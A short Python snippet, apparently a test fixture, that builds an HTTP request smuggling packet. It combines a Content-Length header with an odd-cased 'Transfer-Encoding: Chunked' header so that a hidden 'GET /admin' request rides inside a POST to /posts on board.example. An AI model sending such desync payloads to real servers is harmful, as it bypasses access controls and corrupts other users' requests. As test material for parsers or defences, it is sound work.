# trips: the server finds a request for /admin in it
"""The victim's first line spoils the inner head."""


def packet():
    body = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: board.example\r\n"
    head = b"POST /posts HTTP/1.1\r\nHost: board.example\r\nTransfer-Encoding: Chunked\r\n"
    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body
